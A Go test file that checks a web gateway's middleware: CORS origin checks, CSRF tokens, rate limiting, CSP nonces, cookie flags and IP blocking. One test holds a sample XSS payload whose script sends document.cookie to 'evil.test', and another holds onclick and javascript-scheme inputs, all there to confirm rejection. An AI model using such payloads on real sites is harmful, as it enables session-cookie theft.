package httpserver

import (
	"context"
	"crypto/tls"
	"encoding/json"
	"io"
	"net/http"
	"net/http/httptest"
	"regexp"
	"strconv"
	"strings"
	"sync"
	"testing"

	"github.com/go-chi/chi/v5"
	"github.com/prometheus/client_golang/prometheus"
	"github.com/rs/zerolog"

	"github.com/staffdesk/gatekeeper/internal/audit"
	"github.com/staffdesk/gatekeeper/internal/blocklist"
	"github.com/staffdesk/gatekeeper/internal/config"
	"github.com/staffdesk/gatekeeper/internal/cookies"
	"github.com/staffdesk/gatekeeper/internal/metrics"
	"github.com/staffdesk/gatekeeper/internal/session"
)

const (
	testOrigin   = "https://app.example.com"
	testAdminKey = "admin-key-for-tests"
	testSecret   = "0123456789abcdef0123456789abcdef"
	testPassword = "correct horse"
)

var nonceHeaderRegex = regexp.MustCompile(`'nonce-([A-Za-z0-9_-]+)'`)

type testEnv struct {
	handler   http.Handler
	cfg       *config.Config
	blocklist *blocklist.Blocklist
	events    *eventLog
}

type eventLog struct {
	mu     sync.Mutex
	events []audit.Event
}

func (l *eventLog) Record(_ context.Context, ev audit.Event) error {
	l.mu.Lock()
	defer l.mu.Unlock()
	l.events = append(l.events, ev)
	return nil
}

// last returns the most recent event of type typ.
func (l *eventLog) last(typ audit.EventType) (audit.Event, bool) {
	l.mu.Lock()
	defer l.mu.Unlock()
	for i := len(l.events) - 1; i >= 0; i-- {
		if l.events[i].Type == typ {
			return l.events[i], true
		}
	}
	return audit.Event{}, false
}

// newTestEnv assembles the full router from environment variables, the way the server does.
// env entries override the defaults below; an empty value unsets the variable.
func newTestEnv(t *testing.T, env map[string]string, mutate func(*config.Config)) *testEnv {
	t.Helper()

	vars := map[string]string{
		"NODE_ENV":                 "test",
		"APP_ENV":                  "",
		"CORS_ORIGINS":             testOrigin,
		"CORS_ORIGINLESS_API_KEYS": "",
		"INTERNAL_CIDR_ALLOWLIST":  "",
		"CSRF_ENABLED":             "",
		"SESSION_SECRET":           testSecret,
		"ADMIN_API_KEY":            testAdminKey,
		"RATE_LIMIT_WINDOW_MS":     "",
		"RATE_LIMIT_MAX_REQUESTS":  "",
		"MAX_BODY_BYTES":           "",
		"TRUST_PROXY":              "",
		"REDIS_ADDR":               "",
		"AUDIT_BACKEND":            "",
	}
	for k, v := range env {
		vars[k] = v
	}
	for k, v := range vars {
		t.Setenv(k, v)
	}

	cfg, err := config.Load("")
	if err != nil {
		t.Fatalf("load config: %v", err)
	}
	if mutate != nil {
		mutate(cfg)
	}

	registry := prometheus.NewRegistry()
	m := metrics.New(registry)

	store := session.NewMemoryStore(100)
	t.Cleanup(func() { _ = store.Close() })
	sessions := session.NewManager(store, cookies.Policy{Production: cfg.IsProduction()}, session.Config{})

	bl := blocklist.New(blocklist.NewMemoryStore(), blocklist.Options{Metrics: m})

	events := &eventLog{}
	router := chi.NewRouter()
	err = ConfigureRouter(router, Deps{
		Config:    cfg,
		Logger:    zerolog.Nop(),
		Metrics:   m,
		Gatherer:  registry,
		Recorder:  events,
		Sessions:  sessions,
		Blocklist: bl,
		Routes:    []func(chi.Router){loginRoute(sessions)},
	})
	if err != nil {
		t.Fatalf("configure router: %v", err)
	}
	return &testEnv{handler: router, cfg: cfg, blocklist: bl, events: events}
}

// loginRoute stands in for the application's authentication handler.
func loginRoute(sessions *session.Manager) func(chi.Router) {
	return func(r chi.Router) {
		r.Post("/api/auth/login", func(w http.ResponseWriter, r *http.Request) {
			var body struct {
				UserID   string `json:"userId"`
				Password string `json:"password"`
			}
			if err := json.NewDecoder(r.Body).Decode(&body); err != nil || body.Password != testPassword {
				w.WriteHeader(http.StatusUnauthorized)
				return
			}
			if _, err := sessions.Establish(w, r, body.UserID); err != nil {
				w.WriteHeader(http.StatusInternalServerError)
				return
			}
			sessions.SetAuthCookies(w, "access-"+body.UserID, "refresh-"+body.UserID)
			w.WriteHeader(http.StatusNoContent)
		})
	}
}

// client is a minimal browser: it keeps cookies, sends an Origin and replays the CSRF token.
type client struct {
	t      *testing.T
	h      http.Handler
	ip     string
	origin string
	token  string
	jar    map[string]*http.Cookie
}

func (e *testEnv) client(t *testing.T, ip string) *client {
	return &client{t: t, h: e.handler, ip: ip, origin: testOrigin, jar: map[string]*http.Cookie{}}
}

func (c *client) do(method, path, body string, prepare ...func(*http.Request)) *httptest.ResponseRecorder {
	c.t.Helper()
	var rd io.Reader
	if body != "" {
		rd = strings.NewReader(body)
	}
	req := httptest.NewRequest(method, path, rd)
	req.RemoteAddr = c.ip + ":40000"
	if body != "" {
		req.Header.Set("Content-Type", "application/json")
	}
	if c.origin != "" {
		req.Header.Set("Origin", c.origin)
	}
	if c.token != "" && method != http.MethodGet {
		req.Header.Set("X-CSRF-Token", c.token)
	}
	for _, ck := range c.jar {
		req.AddCookie(&http.Cookie{Name: ck.Name, Value: ck.Value})
	}
	for _, fn := range prepare {
		fn(req)
	}

	rec := httptest.NewRecorder()
	c.h.ServeHTTP(rec, req)

	for _, ck := range rec.Result().Cookies() {
		if ck.MaxAge < 0 {
			delete(c.jar, ck.Name)
			continue
		}
		c.jar[ck.Name] = ck
	}
	return rec
}

func (c *client) fetchToken() string {
	c.t.Helper()
	rec := c.do(http.MethodGet, "/api/csrf-token", "")
	if rec.Code != http.StatusOK {
		c.t.Fatalf("csrf-token: expected 200, got %d: %s", rec.Code, rec.Body.String())
	}
	var body struct {
		CSRFToken string `json:"csrfToken"`
	}
	if err := json.Unmarshal(rec.Body.Bytes(), &body); err != nil || body.CSRFToken == "" {
		c.t.Fatalf("csrf-token: bad body %q", rec.Body.String())
	}
	c.token = body.CSRFToken
	return c.token
}

func (c *client) login(userID string) {
	c.t.Helper()
	c.fetchToken()
	rec := c.do(http.MethodPost, "/api/auth/login", `{"userId":"`+userID+`","password":"`+testPassword+`"}`)
	if rec.Code != http.StatusNoContent {
		c.t.Fatalf("login: expected 204, got %d: %s", rec.Code, rec.Body.String())
	}
	// The session boundary rotated the CSRF secret.
	c.token = ""
}

type errorBody struct {
	Error      string `json:"error"`
	Message    string `json:"message"`
	Code       string `json:"code"`
	Timestamp  string `json:"timestamp"`
	RetryAfter int    `json:"retryAfter"`
	LimitType  string `json:"limitType"`
}

func decodeError(t *testing.T, rec *httptest.ResponseRecorder) errorBody {
	t.Helper()
	var body errorBody
	if err := json.Unmarshal(rec.Body.Bytes(), &body); err != nil {
		t.Fatalf("decode error body %q: %v", rec.Body.String(), err)
	}
	return body
}

func expectRejected(t *testing.T, rec *httptest.ResponseRecorder, status int, code string) {
	t.Helper()
	if rec.Code != status {
		t.Fatalf("expected status %d, got %d: %s", status, rec.Code, rec.Body.String())
	}
	body := decodeError(t, rec)
	if body.Code != code {
		t.Errorf("expected code %s, got %s", code, body.Code)
	}
	if body.Error == "" || body.Message == "" || body.Timestamp == "" {
		t.Errorf("incomplete error envelope: %+v", body)
	}
}

func TestChain_SecurityHeaders(t *testing.T) {
	env := newTestEnv(t, nil, nil)
	rec := env.client(t, "192.0.2.10").do(http.MethodGet, "/health", "")

	if rec.Code != http.StatusOK {
		t.Fatalf("expected 200, got %d", rec.Code)
	}
	want := map[string]string{
		"X-Content-Type-Options": "nosniff",
		"X-Frame-Options":        "DENY",
		"X-XSS-Protection":       "1; mode=block",
		"Referrer-Policy":        "strict-origin-when-cross-origin",
	}
	for header, value := range want {
		if got := rec.Header().Get(header); got != value {
			t.Errorf("%s = %q, want %q", header, got, value)
		}
	}
	if rec.Header().Get("X-Request-ID") == "" {
		t.Error("expected X-Request-ID")
	}
	if rec.Header().Get("Strict-Transport-Security") != "" {
		t.Error("HSTS must not be sent outside production")
	}
	policy := rec.Header().Get("Content-Security-Policy")
	if policy == "" {
		t.Fatal("expected Content-Security-Policy")
	}
	if strings.Contains(policy, "'unsafe-inline'") || strings.Contains(policy, "'unsafe-eval'") {
		t.Errorf("CSP contains unsafe source: %s", policy)
	}
}

func TestChain_HSTSInProductionOverTLS(t *testing.T) {
	env := newTestEnv(t, map[string]string{"NODE_ENV": "production"}, nil)
	c := env.client(t, "192.0.2.10")

	rec := c.do(http.MethodGet, "/health", "")
	if rec.Header().Get("Strict-Transport-Security") != "" {
		t.Error("HSTS must not be sent over plain HTTP")
	}

	rec = c.do(http.MethodGet, "/health", "", func(r *http.Request) { r.TLS = &tls.ConnectionState{} })
	if got := rec.Header().Get("Strict-Transport-Security"); !strings.Contains(got, "max-age=31536000") {
		t.Errorf("expected HSTS over TLS in production, got %q", got)
	}
}

func TestChain_HealthSummary(t *testing.T) {
	env := newTestEnv(t, map[string]string{"INTERNAL_CIDR_ALLOWLIST": "10.0.0.0/8,not-a-cidr"}, nil)

	// The feature summary is not for anonymous outsiders.
	outsider := env.client(t, "192.0.2.10")
	outsider.origin = ""
	expectRejected(t, outsider.do(http.MethodGet, "/health", ""), http.StatusForbidden, "ORIGIN_REQUIRED")

	probe := env.client(t, "10.0.0.10")
	probe.origin = ""
	rec := probe.do(http.MethodGet, "/health", "")
	if rec.Code != http.StatusOK {
		t.Fatalf("internal health check: expected 200, got %d", rec.Code)
	}
	var body struct {
		Status   string         `json:"status"`
		Security map[string]any `json:"security"`
	}
	if err := json.Unmarshal(rec.Body.Bytes(), &body); err != nil {
		t.Fatalf("decode: %v", err)
	}
	if body.Status != "ok" {
		t.Errorf("expected ok, got %s", body.Status)
	}
	if body.Security["allowedOrigins"] != float64(1) || body.Security["internalNetworks"] != float64(1) {
		t.Errorf("unexpected counts %v", body.Security)
	}
	if strings.Contains(rec.Body.String(), testOrigin) {
		t.Error("health must not disclose the allow-list")
	}
}

func TestChain_DisallowedOrigins(t *testing.T) {
	env := newTestEnv(t, nil, nil)
	origins := []string{
		"https://sub.app.example.com",
		"http://app.example.com",
		"https://app.example.com:8080",
		"https://app.example.com/x",
		"https://app.example.com.evil.test",
		"https://evil.test",
		"null",
	}

	for _, o := range origins {
		for _, method := range []string{http.MethodGet, http.MethodPost, http.MethodOptions} {
			t.Run(method+" "+o, func(t *testing.T) {
				c := env.client(t, "192.0.2.20")
				c.origin = o
				rec := c.do(method, "/api/whoami", "")
				expectRejected(t, rec, http.StatusForbidden, "ORIGIN_NOT_ALLOWED")
				if rec.Header().Get("Access-Control-Allow-Origin") != "" {
					t.Error("rejected origin must not receive Access-Control-Allow-Origin")
				}
				if strings.Contains(rec.Body.String(), testOrigin) {
					t.Error("rejection must not disclose the allow-list")
				}
			})
		}
	}
}

func TestChain_AllowedOriginCredentialed(t *testing.T) {
	env := newTestEnv(t, nil, nil)
	c := env.client(t, "192.0.2.21")

	rec := c.do(http.MethodGet, "/api/whoami", "")
	if rec.Code != http.StatusOK {
		t.Fatalf("expected 200, got %d: %s", rec.Code, rec.Body.String())
	}
	if got := rec.Header().Get("Access-Control-Allow-Origin"); got != testOrigin {
		t.Errorf("Access-Control-Allow-Origin = %q", got)
	}
	if got := rec.Header().Get("Access-Control-Allow-Credentials"); got != "true" {
		t.Errorf("Access-Control-Allow-Credentials = %q", got)
	}
	if !strings.Contains(strings.Join(rec.Header().Values("Vary"), ","), "Origin") {
		t.Error("expected Vary: Origin")
	}

	rec = c.do(http.MethodOptions, "/api/echo", "")
	if rec.Code != http.StatusNoContent {
		t.Errorf("preflight: expected 204, got %d", rec.Code)
	}
}

func TestChain_EmptyAllowListRejectsEveryOrigin(t *testing.T) {
	env := newTestEnv(t, map[string]string{"CORS_ORIGINS": "", "INTERNAL_CIDR_ALLOWLIST": "10.0.0.0/8"}, nil)

	for _, o := range []string{testOrigin, "http://localhost:3000", "null"} {
		c := env.client(t, "192.0.2.22")
		c.origin = o
		expectRejected(t, c.do(http.MethodGet, "/health", ""), http.StatusForbidden, "ORIGIN_NOT_ALLOWED")
	}

	c := env.client(t, "10.0.0.22")
	c.origin = ""
	if rec := c.do(http.MethodGet, "/health", ""); rec.Code != http.StatusOK {
		t.Errorf("internal health check: expected 200, got %d", rec.Code)
	}
}

func TestChain_OriginlessCallers(t *testing.T) {
	env := newTestEnv(t, map[string]string{
		"CORS_ORIGINLESS_API_KEYS": "mobile-key",
		"INTERNAL_CIDR_ALLOWLIST":  "10.0.0.0/8",
	}, nil)

	tests := []struct {
		name    string
		ip      string
		prepare func(*http.Request)
		want    int
	}{
		{name: "anonymous", ip: "203.0.113.5", want: http.StatusForbidden},
		{name: "api key", ip: "203.0.113.5", prepare: func(r *http.Request) { r.Header.Set("X-API-Key", "mobile-key") }, want: http.StatusOK},
		{name: "wrong api key", ip: "203.0.113.5", prepare: func(r *http.Request) { r.Header.Set("X-API-Key", "guess") }, want: http.StatusForbidden},
		{name: "internal network", ip: "10.20.30.40", want: http.StatusOK},
		{name: "mapped internal address", ip: "[::ffff:10.1.1.1]", want: http.StatusOK},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			c := env.client(t, tt.ip)
			c.origin = ""
			var prepare []func(*http.Request)
			if tt.prepare != nil {
				prepare = append(prepare, tt.prepare)
			}
			rec := c.do(http.MethodGet, "/api/whoami", "", prepare...)
			if rec.Code != tt.want {
				t.Fatalf("expected %d, got %d: %s", tt.want, rec.Code, rec.Body.String())
			}
			if tt.want == http.StatusForbidden && decodeError(t, rec).Code != "ORIGIN_REQUIRED" {
				t.Errorf("expected ORIGIN_REQUIRED, got %s", rec.Body.String())
			}
		})
	}
}

func TestChain_CSPNoncePerRequest(t *testing.T) {
	env := newTestEnv(t, nil, nil)
	c := env.client(t, "192.0.2.30")
	validNonce := regexp.MustCompile(`^[A-Za-z0-9_-]+$`)

	seen := map[string]bool{}
	for i := 0; i < 2; i++ {
		rec := c.do(http.MethodGet, "/", "")
		if rec.Code != http.StatusOK {
			t.Fatalf("shell: expected 200, got %d", rec.Code)
		}
		m := nonceHeaderRegex.FindStringSubmatch(rec.Header().Get("Content-Security-Policy"))
		if m == nil {
			t.Fatalf("no nonce in CSP header %q", rec.Header().Get("Content-Security-Policy"))
		}
		nonce := m[1]
		if !validNonce.MatchString(nonce) {
			t.Errorf("nonce %q outside [A-Za-z0-9_-]", nonce)
		}
		if seen[nonce] {
			t.Errorf("nonce %q reused", nonce)
		}
		seen[nonce] = true

		body := rec.Body.String()
		if strings.Count(body, `nonce="`+nonce+`"`) != 3 {
			t.Errorf("expected the inline style and both scripts stamped with %q:\n%s", nonce, body)
		}
		if strings.Contains(body, `nonce=""`) {
			t.Error("shell rendered an empty nonce")
		}
	}
}

func TestChain_CSRFRoundTrip(t *testing.T) {
	env := newTestEnv(t, nil, nil)
	alice := env.client(t, "192.0.2.40")
	alice.fetchToken()

	// Browsers send Origin on every POST; the allowed SPA origin must pass with its token.
	rec := alice.do(http.MethodPost, "/api/echo", `{"name":"Jane"}`)
	if rec.Code != http.StatusOK {
		t.Fatalf("fresh token: expected 200, got %d: %s", rec.Code, rec.Body.String())
	}
	if rec.Header().Get("X-CSRF-Token") == "" {
		t.Error("expected X-CSRF-Token on the response")
	}

	// Same session, no token.
	token := alice.token
	alice.token = ""
	expectRejected(t, alice.do(http.MethodPost, "/api/echo", `{"name":"Jane"}`), http.StatusForbidden, "CSRF_TOKEN_MISSING")

	// Token lifted from the JSON body.
	rec = alice.do(http.MethodPost, "/api/echo", `{"_csrf":"`+token+`","name":"Jane"}`)
	if rec.Code != http.StatusOK {
		t.Errorf("body token: expected 200, got %d: %s", rec.Code, rec.Body.String())
	}

	// A token from an unrelated session fails on the token, not on the Origin header.
	mallory := env.client(t, "192.0.2.41")
	alice.token = mallory.fetchToken()
	expectRejected(t, alice.do(http.MethodPost, "/api/echo", `{"name":"Jane"}`), http.StatusForbidden, "CSRF_TOKEN_INVALID")
	if ev, ok := env.events.last(audit.EventCSRFRejected); !ok || ev.Detail["reason"] != "token_mismatch" {
		t.Errorf("expected a token_mismatch audit event, got %+v", ev)
	}

	// Exempt and safe requests never need a token.
	alice.token = ""
	if rec := alice.do(http.MethodGet, "/api/whoami", ""); rec.Code != http.StatusOK {
		t.Errorf("GET: expected 200, got %d", rec.Code)
	}
}

func TestChain_CSRFErrorPageForFormPosts(t *testing.T) {
	env := newTestEnv(t, nil, nil)
	c := env.client(t, "192.0.2.42")

	rec := c.do(http.MethodPost, "/api/echo", "", func(r *http.Request) {
		r.Header.Set("Accept", "text/html,application/xhtml+xml")
	})
	if rec.Code != http.StatusForbidden {
		t.Fatalf("expected 403, got %d", rec.Code)
	}
	if !strings.HasPrefix(rec.Header().Get("Content-Type"), "text/html") {
		t.Fatalf("expected an HTML page, got %q", rec.Header().Get("Content-Type"))
	}
	m := nonceHeaderRegex.FindStringSubmatch(rec.Header().Get("Content-Security-Policy"))
	if m == nil || !strings.Contains(rec.Body.String(), `nonce="`+m[1]+`"`) {
		t.Error("error page style must carry the request nonce")
	}
	if !strings.Contains(rec.Body.String(), "CSRF_TOKEN_MISSING") {
		t.Error("error page should name the failure code")
	}
}

func TestChain_RateLimitIPCeiling(t *testing.T) {
	env := newTestEnv(t, map[string]string{
		"RATE_LIMIT_MAX_REQUESTS": "60",
		"RATE_LIMIT_WINDOW_MS":    "60000",
	}, func(cfg *config.Config) { cfg.RateLimit.BurstMax = 1000 })
	c := env.client(t, "192.0.2.50")

	var rejected *httptest.ResponseRecorder
	for i := 1; i <= 61; i++ {
		rec := c.do(http.MethodGet, "/api/whoami", "")
		if rec.Header().Get("X-RateLimit-Limit") != "60" {
			t.Fatalf("request %d: X-RateLimit-Limit = %q", i, rec.Header().Get("X-RateLimit-Limit"))
		}
		if rec.Header().Get("X-RateLimit-Reset") == "" {
			t.Fatalf("request %d: missing X-RateLimit-Reset", i)
		}
		if rec.Code == http.StatusTooManyRequests {
			rejected = rec
			break
		}
		if want := strconv.Itoa(60 - i); rec.Header().Get("X-RateLimit-Remaining") != want {
			t.Fatalf("request %d: X-RateLimit-Remaining = %q, want %s", i, rec.Header().Get("X-RateLimit-Remaining"), want)
		}
	}
	if rejected == nil {
		t.Fatal("expected a 429 within 61 requests")
	}

	body := decodeError(t, rejected)
	if body.Code != "RATE_LIMIT_IP_GENERAL" || body.LimitType != "IP" {
		t.Errorf("unexpected rejection %+v", body)
	}
	if body.RetryAfter <= 0 || rejected.Header().Get("Retry-After") == "" {
		t.Errorf("expected retry guidance, got %+v", body)
	}

	// A different IP is unaffected.
	if rec := env.client(t, "192.0.2.51").do(http.MethodGet, "/api/whoami", ""); rec.Code != http.StatusOK {
		t.Errorf("other IP: expected 200, got %d", rec.Code)
	}
}

func TestChain_RateLimitUsersShareIP(t *testing.T) {
	env := newTestEnv(t, map[string]string{
		"RATE_LIMIT_MAX_REQUESTS":      "200",
		"RATE_LIMIT_USER_MAX_REQUESTS": "60",
	}, func(cfg *config.Config) { cfg.RateLimit.BurstMax = 1000 })

	alice := env.client(t, "192.0.2.60")
	bob := env.client(t, "192.0.2.60")
	alice.login("alice")
	bob.login("bob")

	for i := 1; i <= 60; i++ {
		for _, c := range []*client{alice, bob} {
			rec := c.do(http.MethodGet, "/api/whoami", "")
			if rec.Code != http.StatusOK {
				t.Fatalf("request %d: expected 200, got %d: %s", i, rec.Code, rec.Body.String())
			}
		}
	}

	var who struct {
		UserID string `json:"userId"`
	}
	rec := alice.do(http.MethodGet, "/api/whoami", "")
	body := decodeError(t, rec)
	if rec.Code != http.StatusTooManyRequests || body.LimitType != "USER" || body.Code != "RATE_LIMIT_USER_GENERAL" {
		t.Fatalf("expected alice's own ceiling to trip, got %d %+v", rec.Code, body)
	}

	// An anonymous caller on the same IP still fits under the shared IP ceiling.
	anon := env.client(t, "192.0.2.60")
	rec = anon.do(http.MethodGet, "/api/whoami", "")
	if rec.Code != http.StatusOK {
		t.Fatalf("anonymous: expected 200, got %d", rec.Code)
	}
	if err := json.Unmarshal(rec.Body.Bytes(), &who); err != nil || who.UserID != "" {
		t.Errorf("anonymous caller should have no user, got %q", rec.Body.String())
	}
}

func TestChain_LoginSkipsSuccessfulAttempts(t *testing.T) {
	// The burst tier counts every attempt, so lift it out of the way.
	env := newTestEnv(t, nil, func(cfg *config.Config) { cfg.RateLimit.Login.BurstMax = 1000 })
	c := env.client(t, "192.0.2.61")

	// More successes than the login IP ceiling (5) allows.
	for i := 0; i < 6; i++ {
		c.login("alice")
	}

	c.fetchToken()
	for i := 1; i <= 5; i++ {
		rec := c.do(http.MethodPost, "/api/auth/login", `{"userId":"alice","password":"wrong"}`)
		if rec.Code != http.StatusUnauthorized {
			t.Fatalf("failed attempt %d: expected 401, got %d: %s", i, rec.Code, rec.Body.String())
		}
	}
	rec := c.do(http.MethodPost, "/api/auth/login", `{"userId":"alice","password":"wrong"}`)
	expectRejected(t, rec, http.StatusTooManyRequests, "RATE_LIMIT_IP_LOGIN")
}

func TestChain_MaliciousPayloadBlocksIP(t *testing.T) {
	env := newTestEnv(t, nil, nil)
	attacker := env.client(t, "192.0.2.70")

	rec := attacker.do(http.MethodPost, "/api/echo", `{"comment":"<script>fetch('https://evil.test/'+document.cookie)</script>"}`)
	expectRejected(t, rec, http.StatusForbidden, "MALICIOUS_PAYLOAD")

	// Unrelated, otherwise valid endpoints are refused too.
	for _, path := range []string{"/health", "/api/whoami", "/api/csrf-token", "/"} {
		expectRejected(t, attacker.do(http.MethodGet, path, ""), http.StatusForbidden, "IP_BLOCKED")
	}
	// Other callers are not.
	if rec := env.client(t, "192.0.2.71").do(http.MethodGet, "/api/whoami", ""); rec.Code != http.StatusOK {
		t.Errorf("bystander: expected 200, got %d", rec.Code)
	}

	// An operator on the blocked address can still reach the admin routes.
	admin := env.client(t, "192.0.2.70")
	bearer := func(r *http.Request) { r.Header.Set("Authorization", "Bearer "+testAdminKey) }
	rec = admin.do(http.MethodGet, "/admin/blocklist", "", bearer)
	if rec.Code != http.StatusOK || !strings.Contains(rec.Body.String(), "192.0.2.70") {
		t.Fatalf("list: expected the entry, got %d %s", rec.Code, rec.Body.String())
	}
	rec = admin.do(http.MethodDelete, "/admin/blocklist/192.0.2.70", "", bearer)
	if rec.Code != http.StatusOK {
		t.Fatalf("unblock: expected 200, got %d: %s", rec.Code, rec.Body.String())
	}
	if rec := attacker.do(http.MethodGet, "/api/whoami", ""); rec.Code != http.StatusOK {
		t.Errorf("after unblock: expected 200, got %d", rec.Code)
	}
}

func TestChain_SanitizedBodyReachesHandler(t *testing.T) {
	env := newTestEnv(t, nil, nil)
	c := env.client(t, "192.0.2.80")
	c.fetchToken()

	rec := c.do(http.MethodPost, "/api/echo", `{"bio":"hi <b onclick=steal()>there</b>","age":41,"tags":["a","javascript :x"]}`)
	if rec.Code != http.StatusForbidden {
		t.Fatalf("javascript: scheme must be treated as an attack, got %d", rec.Code)
	}

	c = env.client(t, "192.0.2.81")
	c.fetchToken()
	rec = c.do(http.MethodPost, "/api/echo", `{"bio":"hi <b onclick=steal()>there</b>","age":41}`)
	if rec.Code != http.StatusOK {
		t.Fatalf("expected 200, got %d: %s", rec.Code, rec.Body.String())
	}
	var body struct {
		Received map[string]any `json:"received"`
	}
	if err := json.Unmarshal(rec.Body.Bytes(), &body); err != nil {
		t.Fatalf("decode: %v", err)
	}
	if body.Received["bio"] != "hi <b steal()>there</b>" {
		t.Errorf("handler saw unsanitized bio %q", body.Received["bio"])
	}
	if body.Received["age"] != float64(41) {
		t.Errorf("numbers must survive sanitization, got %v", body.Received["age"])
	}
}

func TestChain_BodyValidation(t *testing.T) {
	env := newTestEnv(t, map[string]string{"MAX_BODY_BYTES": "64"}, nil)

	tests := []struct {
		name   string
		body   string
		ctype  string
		status int
		code   string
	}{
		{name: "too large", body: `{"a":"` + strings.Repeat("x", 100) + `"}`, status: http.StatusRequestEntityTooLarge, code: "PAYLOAD_TOO_LARGE"},
		{name: "not json", body: "a=b", ctype: "application/x-www-form-urlencoded", status: http.StatusUnsupportedMediaType, code: "UNSUPPORTED_MEDIA_TYPE"},
		{name: "malformed", body: `{"a":`, status: http.StatusBadRequest, code: "INVALID_JSON"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			c := env.client(t, "192.0.2.90")
			c.fetchToken()
			rec := c.do(http.MethodPost, "/api/echo", tt.body, func(r *http.Request) {
				if tt.ctype != "" {
					r.Header.Set("Content-Type", tt.ctype)
				}
			})
			expectRejected(t, rec, tt.status, tt.code)
		})
	}
}

func TestChain_SessionCookieHardening(t *testing.T) {
	tests := []struct {
		env        string
		name       string
		wantSecure bool
	}{
		{env: "production", name: "__Host-sid", wantSecure: true},
		{env: "development", name: "sid", wantSecure: false},
	}

	for _, tt := range tests {
		t.Run(tt.env, func(t *testing.T) {
			env := newTestEnv(t, map[string]string{"NODE_ENV": tt.env}, nil)
			c := env.client(t, "192.0.2.100")
			c.fetchToken()

			rec := c.do(http.MethodPost, "/api/auth/login", `{"userId":"alice","password":"`+testPassword+`"}`)
			if rec.Code != http.StatusNoContent {
				t.Fatalf("login: expected 204, got %d: %s", rec.Code, rec.Body.String())
			}

			var raw string
			for _, v := range rec.Header().Values("Set-Cookie") {
				if strings.HasPrefix(v, tt.name+"=") {
					raw = v
				}
			}
			if raw == "" {
				t.Fatalf("no %s cookie in %v", tt.name, rec.Header().Values("Set-Cookie"))
			}
			for _, attr := range []string{"HttpOnly", "SameSite=Strict", "Path=/", "Max-Age="} {
				if !strings.Contains(raw, attr) {
					t.Errorf("%s missing %s: %s", tt.name, attr, raw)
				}
			}
			if strings.Contains(raw, "Domain=") {
				t.Errorf("%s must not set Domain: %s", tt.name, raw)
			}
			if got := strings.Contains(raw, "Secure"); got != tt.wantSecure {
				t.Errorf("%s Secure = %v, want %v: %s", tt.name, got, tt.wantSecure, raw)
			}
			if tt.env == "development" && strings.Contains(raw, "__Host-") {
				t.Errorf("development cookie must not use the __Host- prefix: %s", raw)
			}

			// The session identifies the caller on the next request.
			rec = c.do(http.MethodGet, "/api/whoami", "")
			if !strings.Contains(rec.Body.String(), `"userId":"alice"`) {
				t.Errorf("expected alice, got %s", rec.Body.String())
			}
		})
	}
}

func TestChain_AdminRoutes(t *testing.T) {
	env := newTestEnv(t, nil, nil)
	admin := env.client(t, "192.0.2.110")
	bearer := func(r *http.Request) { r.Header.Set("Authorization", "Bearer "+testAdminKey) }

	// Produce a rejection so the counter family is exported.
	stranger := env.client(t, "192.0.2.111")
	stranger.origin = "https://evil.test"
	stranger.do(http.MethodGet, "/api/whoami", "")

	expectRejected(t, admin.do(http.MethodGet, "/metrics", ""), http.StatusUnauthorized, "UNAUTHORIZED")
	expectRejected(t, admin.do(http.MethodGet, "/metrics", "", func(r *http.Request) {
		r.Header.Set("Authorization", "Bearer wrong")
	}), http.StatusUnauthorized, "UNAUTHORIZED")

	rec := admin.do(http.MethodGet, "/metrics", "", bearer)
	if rec.Code != http.StatusOK {
		t.Fatalf("metrics: expected 200, got %d", rec.Code)
	}
	if !strings.Contains(rec.Body.String(), `gatekeeper_rejections_total{code="ORIGIN_NOT_ALLOWED",stage="origin"} 1`) {
		t.Errorf("expected the origin rejection in metrics:\n%s", rec.Body.String())
	}

	// Admin routes still validate the origin.
	admin.origin = "https://evil.test"
	expectRejected(t, admin.do(http.MethodGet, "/metrics", "", bearer), http.StatusForbidden, "ORIGIN_NOT_ALLOWED")
}

func TestChain_AdminDisabledWithoutKey(t *testing.T) {
	env := newTestEnv(t, map[string]string{"ADMIN_API_KEY": ""}, nil)
	c := env.client(t, "192.0.2.120")
	expectRejected(t, c.do(http.MethodGet, "/metrics", ""), http.StatusNotFound, "NOT_FOUND")
}

func TestChain_UnknownRoutesPassTheChain(t *testing.T) {
	env := newTestEnv(t, nil, nil)

	c := env.client(t, "192.0.2.130")
	expectRejected(t, c.do(http.MethodGet, "/api/employees", ""), http.StatusNotFound, "NOT_FOUND")
	expectRejected(t, c.do(http.MethodGet, "/api/echo", ""), http.StatusMethodNotAllowed, "METHOD_NOT_ALLOWED")

	c.origin = "https://evil.test"
	expectRejected(t, c.do(http.MethodGet, "/api/employees", ""), http.StatusForbidden, "ORIGIN_NOT_ALLOWED")
}

func TestChain_CSRFDisabled(t *testing.T) {
	env := newTestEnv(t, map[string]string{"CSRF_ENABLED": "false"}, nil)
	c := env.client(t, "192.0.2.140")
	if rec := c.do(http.MethodPost, "/api/echo", `{"a":1}`); rec.Code != http.StatusOK {
		t.Errorf("expected 200 with CSRF disabled, got %d: %s", rec.Code, rec.Body.String())
	}
}

func TestConfigureRouter_RejectsMissingConfig(t *testing.T) {
	if err := ConfigureRouter(chi.NewRouter(), Deps{}); err == nil {
		t.Fatal("expected error without config")
	}
	if err := ConfigureRouter(nil, Deps{Config: &config.Config{}}); err == nil {
		t.Fatal("expected error without router")
	}
}
